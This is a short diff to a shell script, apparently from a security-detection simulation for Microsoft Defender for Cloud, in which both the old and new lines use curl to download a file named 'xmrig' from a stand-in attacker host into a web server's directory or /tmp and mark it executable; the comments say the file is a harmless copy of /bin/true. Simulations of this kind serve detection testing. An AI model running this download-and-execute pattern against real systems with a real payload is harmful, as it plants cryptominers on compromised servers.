@@ -1,4 +1,5 @@
-# Download xmrig (a harmless copy of /bin/true) from the attacker's web server and make it executable.
-dir=$(pwd); [ -w "$dir" ] || dir=/tmp
-curl -sSf -m 20 -o "$dir/xmrig" http://mdc-simulation-attacker/xmrig || exit $?
-chmod +x "$dir/xmrig" && echo "downloaded xmrig to $dir/xmrig ($(wc -c < "$dir/xmrig") bytes)"
+# Download xmrig (a harmless copy of /bin/true) from the attacker's web server into the web server's working
+# directory and make it executable, as Microsoft's script does (/tmp when that directory is not writable).
+[ -w . ] || cd /tmp || exit 1
+curl -sO http://mdc-simulation-attacker/xmrig -f -m 20 || exit $?
+chmod +x xmrig && echo "downloaded xmrig to $PWD/xmrig ($(wc -c < xmrig) bytes)"
